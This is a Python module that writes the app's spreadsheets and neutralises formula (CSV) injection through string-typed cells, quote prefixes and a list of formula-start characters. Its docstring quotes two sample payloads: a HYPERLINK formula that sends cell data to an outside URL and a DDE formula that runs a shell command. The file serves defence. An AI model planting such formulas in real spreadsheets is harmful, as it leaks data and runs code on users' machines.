"""Spreadsheets the app writes never carry a formula from what people typed.

A title such as ``=HYPERLINK("http://…?d="&A1,"Klik")`` or a note such as ``=cmd|' /C calc'!A0``
becomes a live formula when a cell is written with it as its value: openpyxl turns any string
that starts with ``=`` into a formula cell (``data_type`` ``"f"``), and Excel and LibreOffice
evaluate it when the file opens. Text that starts with ``+``, ``-`` or ``@`` (or a tab or a
carriage return before one of them) is the same risk one step later, when a person edits the
cell or the sheet is saved as CSV and opened again (OWASP, CSV injection).

What prevents it, for XLSX (``xlsx_bytes``): every text cell is written as a string cell
(``data_type = "s"``, an inline string in the file), which neither program evaluates whatever
it starts with; and a cell whose text starts with one of those characters also gets the
``quotePrefix`` style, the flag Excel and LibreOffice set themselves when a person types
``'=1``: the cell stays text when someone opens it for editing and presses Enter, and it is
written as text when the sheet is saved as CSV. The text itself is kept as it was typed, so the
sheet shows what the record holds; numbers and dates the app writes stay numbers.

CSV has no cell types, so there the rule is OWASP's: a field that starts with one of those
characters is written with a single quote before it (``csv_text``), which every spreadsheet
program reads as "this is text" and does not show.

Every writer of the app saves its workbook through ``xlsx_bytes`` (and writes CSV fields
through ``csv_text``), so the rule is kept in this one place; a test
(``tests/web/test_spreadsheets.py``) checks that no module saves a workbook another way.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

Value = str | int | float | None
"""What a report writes in a cell: text, a figure, or nothing."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet program may read as the start of a formula (OWASP, CSV injection)."""


def formula_like(text: str) -> bool:
    """Whether a spreadsheet program could take ``text`` for a formula."""
    return text.startswith(FORMULA_STARTS)


def text_keep(cell: Cell) -> None:
    """Make a cell that holds text a string cell, quote-prefixed when it looks like a formula;
    other cells (numbers, dates, empty) are left as they are."""
    value = cell.value
    if not isinstance(value, str):
        return
    cell.data_type = "s"
    if formula_like(value):
        cell.quotePrefix = True


def sheet_add(
    book: Workbook,
    title: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Value]],
    *,
    widest: int = 60,
) -> Worksheet:
    """A sheet of a report: a bold header row kept in view, the rows, and each column as wide
    as its longest value (at most ``widest`` characters)."""
    sheet = book.create_sheet(title)
    sheet.append(list(header))
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append(list(row))
    sheet.freeze_panes = "A2"
    for column, name in zip(sheet.columns, header, strict=False):
        width = max([len(name), *(len(str(c.value)) for c in column if c.value is not None)])
        sheet.column_dimensions[column[0].column_letter].width = min(width + 2, widest)
    return sheet


def xlsx_bytes(book: Workbook) -> bytes:
    """The workbook as an XLSX file, every text cell of every sheet kept as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell, Cell):
                    text_keep(cell)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_text(value: object) -> object:
    """A field for a CSV file: text that looks like a formula with a single quote before it;
    anything else as it is."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value
